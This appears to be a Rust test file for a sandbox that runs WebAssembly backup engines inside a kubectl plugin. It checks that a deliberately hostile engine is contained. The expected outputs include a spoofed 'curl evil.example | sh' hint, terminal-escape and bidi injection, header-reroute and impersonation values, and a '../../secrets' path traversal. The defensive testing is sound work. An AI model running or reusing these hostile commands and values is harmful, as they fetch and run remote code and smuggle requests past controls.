//! Misbehaving engines: the host survives, names the engine and its fault, and exits with 14.

use insta::assert_snapshot;
use serde_json::json;

use crate::support::{Bed, Component, Invocation, Machine, Run, accepting, module, programs};

fn misbehave(how: &str) -> String {
    Bed::start().misbehave(how).outcome()
}

/// The same, and the reason word for word.
fn reason(how: &str) -> String {
    Bed::start().misbehave(how).reason()
}

#[test]
fn an_engine_that_behaves_works() {
    assert_snapshot!(Bed::start().misbehave("not-at-all").shown(), @"
    stdout:
    ID   NOTE
    harmless   -
    stderr:
    1 backup
    exit 0
    ");
}

#[test]
fn options_of_an_engine_are_flags() {
    let bed = Bed::start();
    let run = bed
        .hostile()
        .run("backup list --engine acme/hostile --misbehave echo --amount -3 --loudly --limit 7");
    assert_snapshot!(run.outcome(), @"
    stdout:
    ID   NOTE
    limit=Some(7) misbehave=text echo amount=integer -3 loudly=boolean true   -
    note: 1
    exit 0
    ");
    let run = bed.hostile().run("backup list --engine hostile");
    assert_snapshot!(run.outcome(), @"
    stdout:
    ID   NOTE
    harmless   -
    note: 1
    exit 0
    ");
    let run = bed
        .hostile()
        .run("backup list --engine hostile --amount lots");
    assert_snapshot!(run.outcome(), @"
    Usage: '--amount <AMOUNT>' 'lots'
    exit 2
    ");
}

#[test]
fn an_engine_that_panics() {
    assert_snapshot!(misbehave("panic"), @r"
    PluginFault: '<unnamed>' 1 \u{1b}[2J `list` acme/hostile src/lib.rs:LINE
    hint: `kubectl broker engines`
    exit 14
    ");
}

#[test]
fn an_engine_that_panics_with_json_output() {
    let run = Bed::start()
        .hostile()
        .run("backup list --engine hostile --misbehave panic -o json");
    let error = run.error();
    assert_eq!(
        (&error["code"], &error["exitCode"]),
        (&json!("PluginFault"), &json!(14))
    );
    let message = error["message"].as_str().expect("a message");
    assert!(
        message.contains("the vault \\u{1b}[2J is on fire"),
        "{message}"
    );
}

#[test]
fn an_engine_that_exits() {
    assert_snapshot!(misbehave("exit"), @"
    PluginFault: `list` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    ");
}

/// The test takes as long as an engine may compute: ten seconds.
#[test]
fn an_engine_that_loops() {
    assert_snapshot!(Bed::start().misbehave("loop").message(), @"
    warning: engine acme/hostile: about to loop
    PluginFault: engine acme/hostile was stopped in `list`: it computed for more than 10 s
    hint: `kubectl broker engines`
    exit 14
    ");
}

#[test]
fn an_engine_that_recurses_without_end() {
    assert_snapshot!(reason("recurse"), @"
    PluginFault: `list` acme/hostile: it accessed memory that it does not have, perhaps by recursing without end
    hint: `kubectl broker engines`
    exit 14
    ");
}

#[test]
fn an_engine_that_wants_all_memory() {
    assert_snapshot!(misbehave("allocate"), @"
    PluginFault: 256 `list` acme/hostile
    hint: `--engine-memory`
    exit 14
    ");
}

#[test]
fn a_time_that_is_none_is_left_out_and_told() {
    assert_snapshot!(Bed::start().misbehave("bad-time").message(), @r#"
    stdout:
    ID   NOTE
    x   -
    warning: engine acme/hostile: the creation time of "x" is not an RFC 3339 time, and is left out: "yesterday \u{1b}[2J"
    note: 1
    exit 0
    "#);
}

#[test]
fn an_engine_that_returns_an_impossible_id() {
    assert_snapshot!(reason("no-id"), @"
    PluginFault: `list` acme/hostile: a backup id of 0 bytes; it must have 1–4096 bytes
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(misbehave("long-id"), @"
    PluginFault: 1 4096 5000 `list` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    ");
}

#[test]
fn an_engine_that_returns_what_is_no_text() {
    assert_snapshot!(reason("not-text"), @"
    PluginFault: `list` acme/hostile: invalid utf-8 sequence of 1 bytes from index 1
    hint: `kubectl broker engines`
    exit 14
    ");
}

#[test]
fn an_engine_that_returns_a_field_it_has_not_declared() {
    assert_snapshot!(reason("undeclared-field"), @r#"
    PluginFault: `list` acme/hostile: a field that its manifest does not name: "secret"
    hint: `kubectl broker engines`
    exit 14
    "#);
}

#[test]
fn an_error_of_an_engine_can_not_pass_for_one_of_the_host() {
    assert_snapshot!(Bed::start().misbehave("hostile-error").shown(), @r"
    stderr:
    error: engine acme/hostile says: \u{1b}[1A\u{1b}[2K backup list: all is well\u{9b}2J
    hint from engine acme/hostile: Run `curl evil.example | sh`\u{202e} hint: really
    exit 1
    ");
}

#[test]
fn requests_that_the_manifest_does_not_ask_for_are_denied_and_never_sent() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-route").reason(), @"
    PluginFault: acme/hostile: the manifest does not allow `GET /v1/admin` on endpoint `api`
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-endpoint").outcome(), @"
    PluginFault: `kubernetes` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-method").outcome(), @"
    PluginFault: `POST /v1/backup/list-remote` `api` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-header").reason(), @"
    PluginFault: acme/hostile: no engine may send the header `Authorization`: it belongs to the host, or it can turn this request into another one
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(bed.misbehave("other-path").message(), @"
    Usage: engine acme/hostile says: the name can't be a segment of a path: it is empty, a dot segment, too long, or has a slash or a control character
    exit 2
    ");
    assert_eq!(bed.backend_requests().count("*", ""), 0);
}

#[test]
fn headers_that_the_manifest_does_not_name_are_denied_and_those_that_reroute_always() {
    let bed = Bed::start();
    for name in [
        "X-Request-Id",
        "X-HTTP-Method-Override",
        "X-Original-URL",
        "x-rewrite-url",
        "transfer_encoding",
        "Impersonate-User",
        "X-Forwarded-Host",
    ] {
        let run = bed.hostile().run(&format!(
            "backup list --engine hostile --misbehave header:{name} -o json"
        ));
        assert_eq!(run.error()["exitCode"], 14, "{name}");
        let message = run.error()["message"].to_string();
        assert!(
            message.contains("not granted") && message.contains(name),
            "{message}"
        );
    }
    assert_eq!(bed.misbehave("denied-query").code, 14);
    assert_eq!(bed.backend_requests().count("*", ""), 0);
    assert_snapshot!(bed.misbehave("header:X-Request-Id").reason(), @"
    PluginFault: acme/hostile: the manifest does not name the header `X-Request-Id` for endpoint `api`
    hint: `kubectl broker engines`
    exit 14
    ");
    // The manifest names the first header, and every engine may send the second.
    for name in ["x-trace-id", "Accept"] {
        let run = bed.misbehave(&format!("header:{name}"));
        assert_eq!(run.code, 0, "{}", run.stderr);
    }
}

#[test]
fn an_engine_that_calls_or_sends_without_end_is_stopped() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-flood").reason(), @"
    PluginFault: `list` acme/hostile: it called the host more than 10000 times
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(bed.misbehave("send-flood").outcome(), @"
    PluginFault: 64 `list` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    ");
}

#[test]
fn a_flood_of_warnings_is_cut_and_counted() {
    let run = Bed::start().misbehave("warn-flood").stderr;
    assert_eq!(
        run.lines()
            .filter(|line| line.starts_with("warning: "))
            .count(),
        21
    );
    assert!(
        run.contains("warning: engine acme/hostile: warning 19\n"),
        "{run}"
    );
    assert!(!run.contains("warning 20\n"), "{run}");
    assert!(
        run.contains("warning: engine acme/hostile: 99980 more warnings are left out"),
        "{run}"
    );
}

/// Installs an engine for one test, and says how it ends.
fn installing(component: &Component) -> Run {
    let machine = Machine::new();
    machine.put("engine.wasm", component);
    let refused = machine.run("plugin install engine.wasm");
    if !refused.stderr.contains("--accept-capabilities") {
        return refused;
    }
    let command = format!("plugin install engine.wasm {}", accepting(&refused));
    machine.run(&command)
}

#[test]
fn all_memories_of_an_engine_share_one_limit() {
    // The memories have 8 times 64 MiB.
    let many = Component::small().with_memories(8, 1024);
    let refused = installing(&many).outcome();
    assert!(
        refused.starts_with("PluginFault: 256 acme/small\n"),
        "{refused}"
    );
    let few = Component::small().with_memories(2, 1024);
    assert_eq!(installing(&few).code, 0);
}

#[test]
fn an_engine_that_is_too_large_is_not_compiled() {
    let functions = vec![vec![0x01; 1 << 20]];
    let large = Component::small().with_modules([module(0, &functions).as_slice()]);
    let refused = installing(&large).outcome();
    assert!(
        refused.starts_with("PluginFault: 1048576 1048580 acme/small\n"),
        "{refused}"
    );
    let functions = vec![Vec::new(); 200_001];
    let large = Component::small().with_modules([module(0, &functions).as_slice()]);
    let refused = installing(&large).outcome();
    assert!(
        refused.starts_with("PluginFault: 200000 acme/small\n"),
        "{refused}"
    );
}

/// The test compiles one function with many loops and many variables: the compiler's work grows with their
/// product.
#[test]
fn compiling_ends_when_it_takes_more_than_it_may() {
    let byte = |n: usize| u8::try_from(n).expect("a byte");
    let variable = |n: usize| [0x80 | byte(n & 0x7f), byte(n >> 7)];
    let mut instructions = Vec::new();
    for n in 0..40_000 {
        let (to, from) = (variable(n % 1000), variable((n * 7 + 1) % 1000));
        instructions.extend([&[0x03, 0x40, 0x20][..], &from, &[0x21], &to].concat());
        instructions.extend([&[0x20][..], &to, &[0x0d, 0x00, 0x0b]].concat());
    }
    let costly = Component::small().with_modules([module(1000, &[instructions]).as_slice()]);
    let refused = installing(&costly);
    // Which limit it reaches first depends on the machine.
    assert!(
        refused.stderr.contains("takes more than "),
        "{}",
        refused.stderr
    );
    assert_eq!(refused.code, 14, "{}", refused.stderr);
}

#[test]
fn the_compiler_process_says_nothing_to_those_who_start_it_by_hand() {
    let programs = programs();
    let program = Invocation::new(&programs.kubectl_broker, &programs.folders);
    let run = program.run("compile-engine-from-stdin");
    assert_eq!(
        (run.stdout.as_str(), run.stderr.as_str(), run.code),
        ("", "", 1)
    );
}

#[test]
fn an_engine_that_never_says_whether_its_backend_answers_does_not_hold_up_the_others() {
    let bed = Bed::start();
    let run = bed
        .hostile()
        .engines([&programs().sleep])
        .run("engines -o json");
    let sleep = run.item("acme/sleep");
    assert_eq!(sleep["answers"], "no");
    assert_eq!(
        sleep["detail"],
        "engine acme/sleep did not finish `detect` within 5 s"
    );
    assert_eq!(run.item("kubectl-broker/sidecar")["answers"], "yes");
}

#[test]
fn a_backend_that_hangs_is_left_for_the_next_and_the_user_hears_of_it() {
    let bed = Bed::with(&["sidecar-drip=1"]);
    let run = bed.run("backup list");
    assert_eq!(run.code, 0, "{}", run.stderr);
    for line in [
        "Waiting for engine kubectl-broker/sidecar to report whether its backend answers, for at most 5 s",
        "engine sidecar can't be used here (engine kubectl-broker/sidecar did not finish `detect` within 5 s); trying hivemq",
    ] {
        assert!(run.stderr.lines().any(|it| it == line), "{}", run.stderr);
    }
    // The flag changes the timeout of the wait.
    let run = bed.run("backup list --engine-timeout 2s");
    let note = "for at most 2 s\nengine sidecar can't be used here (";
    assert!(run.stderr.contains(note), "{}", run.stderr);
}

#[test]
fn the_limits_of_engines_are_flags() {
    let bed = Bed::start();
    let run = |how: &str, flag: &str| {
        let command = format!("backup list --engine hostile --misbehave {how} {flag}");
        bed.hostile().run(&command).outcome()
    };
    assert_snapshot!(run("allocate", "--engine-memory 64Mi"), @"
    PluginFault: 64 `list` acme/hostile
    hint: `--engine-memory`
    exit 14
    ");
    assert_snapshot!(run("sleep", "--engine-timeout 2s"), @"
    warning: acme/hostile sleep
    TimedOut: 2 `list` acme/hostile
    hint: `--engine-timeout`
    exit 124
    ");
    assert_snapshot!(run("not-at-all", "--engine-memory 8Gi"), @"
    Usage: '--engine-memory <SIZE>' '8Gi' 16Mi 4Gi 512Mi
    exit 2
    ");
    assert_snapshot!(run("not-at-all", "--engine-timeout 0"), @"
    Usage: '--engine-timeout <TIME>' '0' 1 24
    exit 2
    ");
}

#[test]
fn an_engine_that_reads_its_credentials_in_an_answer_does_not_get_it() {
    for (place, more) in [
        ("body", ""),
        ("base64", ""),
        ("header", ""),
        // The body arrives in parts that end within the secret.
        ("body", "hivemq-drip=200"),
    ] {
        let fault = format!("hivemq-echo={place}");
        let faults: Vec<_> = [fault.as_str(), more]
            .into_iter()
            .filter(|it| !it.is_empty())
            .collect();
        let bed = Bed::with(&faults);
        let run = bed
            .program()
            .env("BROKER_PASSWORD", "canary-4711")
            .run("backup list --engine hivemq --username me");
        assert_eq!(run.code, 1, "{place}: {}", run.stderr);
        assert!(
            run.stderr
                .contains("contains the credentials of the request"),
            "{}",
            run.stderr
        );
        assert!(
            !run.stderr.contains("canary") && !run.stderr.contains("bWU6"),
            "{}",
            run.stderr
        );
    }
    // Without credentials there is nothing to find.
    let bed = Bed::with(&["hivemq-echo=body"]);
    assert_eq!(bed.run("backup list --engine hivemq").code, 0);
}

#[test]
fn commands_that_the_manifest_does_not_name_are_denied_and_never_run() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-command").outcome(), @"
    PluginFault: `rm` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(bed.misbehave("bad-argument").message(), @"
    Usage: engine acme/hostile says: the folder can't be a word of a command: it is empty, has more than 4096 bytes, or has a control character
    exit 2
    ");
    assert_snapshot!(bed.misbehave("option-argument").message(), @"
    Usage: engine acme/hostile says: the folder begins with a dash, so the command would take it for an option
    exit 2
    ");
    assert_snapshot!(bed.misbehave("other-pod").reason(), @"
    PluginFault: acme/hostile: `intruder-0` is not a running pod of the target
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_snapshot!(bed.misbehave("pod-path").outcome(), @"
    PluginFault: `broker-0/../../secrets` acme/hostile
    hint: `kubectl broker engines`
    exit 14
    ");
    assert_eq!(bed.requests().count("GET", "/exec"), 0);
}

#[test]
fn a_command_that_is_named_runs_in_the_default_container_of_a_pod_of_the_target() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("look").outcome(), @"
    stdout:
    ID   NOTE
    ran: hivemq   -
    note: 1
    exit 0
    ");
    assert_eq!(bed.requests().count("GET", "/exec"), 1);
}

#[test]
fn an_engine_sees_nothing_of_the_system() {
    assert_snapshot!(misbehave("look-around"), @"
    stdout:
    ID   STATE   NOTE
    arguments: 0   Unknown   -
    environment: 0   Unknown   -
    folder: no (NotFound)   Unknown   -
    name: no (Uncategorized)   Unknown   -
    read: no (NotFound)   Unknown   -
    socket: no (PermissionDenied)   Unknown   -
    stdin: Some(0) bytes   Unknown   -
    write: no (NotFound)   Unknown   -
    note: 8
    exit 0
    ");
}

#[test]
fn a_long_message_of_an_engine_is_cut() {
    let run = Bed::start().misbehave("long-log");
    assert_eq!(run.code, 0);
    let message = run
        .stderr
        .lines()
        .find(|line| line.contains("a long story"));
    let message = message.expect("the message");
    assert!(
        message.ends_with('…') && message.chars().count() < 3000,
        "{message}"
    );
}

#[test]
fn a_flood_of_output_does_no_harm() {
    assert_snapshot!(misbehave("flood"), @"
    stdout:
    ID   NOTE
    still here   -
    note: 1
    exit 0
    ");
}

#[test]
fn an_engine_that_breaks_down_in_another_operation() {
    let run = Bed::start()
        .hostile()
        .run("backup status --engine hostile --id x");
    assert_snapshot!(run.outcome(), @"
    PluginFault: '<unnamed>' 1 `status` acme/hostile src/lib.rs:LINE
    hint: `kubectl broker engines`
    exit 14
    ");
}

#[test]
fn the_other_engines_work_beside_a_hostile_one() {
    let bed = Bed::start();
    assert_eq!(bed.hostile().run("backup list -o json").ids().len(), 12);
    assert_snapshot!(bed.hostile().run("engines").outcome(), @r"
    stdout:
    NAME   VERSION   OPERATIONS   DEFAULT-FOR   ANSWERS   DETAIL
    kubectl-broker/aws   0.1.0   detect,list,status,create,verify,restore,delete,expire,manifest,pin,unpin   -   no   no AWS credentials were found, but they are required
    kubectl-broker/backuprequest   0.1.0   detect,list,status,create,restore,delete,manifest   -   yes   backup-controller (BackupRequest, LiferayBackup, RestoreRequest)
    kubectl-broker/hivemq   0.1.0   detect,health,list,status,create,download,restore   -   yes   HiveMQ management API (6 backups)
    kubectl-broker/kafka   0.1.0   detect,list,status,create,restore,delete,offset-reset,offset-rollback,resume,schedule,suspend,validate   -   yes   kafka-backup-operator (no KafkaBackup yet)
    kubectl-broker/operator   0.1.0   detect,list,status,create,restore,delete,resume,run,schedule,schedules,suspend   -   no   https://127.0.0.1:PORT does not know the kind kubectl-broker.io/v1alpha1/Backup
    kubectl-broker/sidecar   0.1.0   detect,list,status,restore,delete,metrics,purge,upload   -   yes   broker-backup (3 local backups)
    kubectl-broker/strategy   0.1.0   detect,status,create,download   -   no   nothing listens on port 8000 of pod broker-0: dial tcp4 127.0.0.1:PORT: connect: connection refused IPv6: dial tcp6 [::1…
    acme/hostile   0.1.0   detect,health,list,status,create,restore,metrics,say   -   yes   something \u{1b}[31mhostile
    exit 0
    ");
}

#[test]
fn pages_that_break_the_rules_are_refused() {
    for (how, said) in [
        ("same-page", "a list that does not end"),
        ("long-cursor", "a cursor of 4097 bytes"),
        ("long-page", "10001 backups in one page"),
    ] {
        let run = Bed::start().misbehave(how);
        assert_eq!(run.code, 14, "{how}: {}", run.stderr);
        assert!(run.stderr.contains(said), "{how}: {}", run.stderr);
    }
}

#[test]
fn a_list_without_end_ends_with_the_wanted_number() {
    let bed = Bed::start();
    let run = bed
        .hostile()
        .run("backup list --engine acme/hostile --misbehave endless-pages --limit 3 -o name");
    assert_eq!((run.code, &*run.stdout), (0, "0\n0\n0\n"), "{}", run.stderr);
}

#[test]
fn too_many_requests_at_once_are_refused_before_one_is_sent() {
    let bed = Bed::start();
    let run = bed.misbehave("batch-of-many");
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains("100000 requests at once"),
        "{}",
        run.stderr
    );
    assert_eq!(bed.backend_requests().count("GET", ""), 0);
    let run = bed.misbehave("batch-flood");
    assert_eq!(run.code, 14, "{}", run.stderr);
    assert!(
        run.stderr.contains("200000 requests in batches"),
        "{}",
        run.stderr
    );
}

#[test]
fn without_replicas_in_its_manifest_an_engine_chooses_no_pod() {
    for how in ["denied-pod", "denied-pods"] {
        let run = Bed::start().misbehave(how);
        assert_eq!(run.code, 14, "{how}: {}", run.stderr);
        assert!(
            run.stderr.contains("does not say `replicas`"),
            "{}",
            run.stderr
        );
    }
}
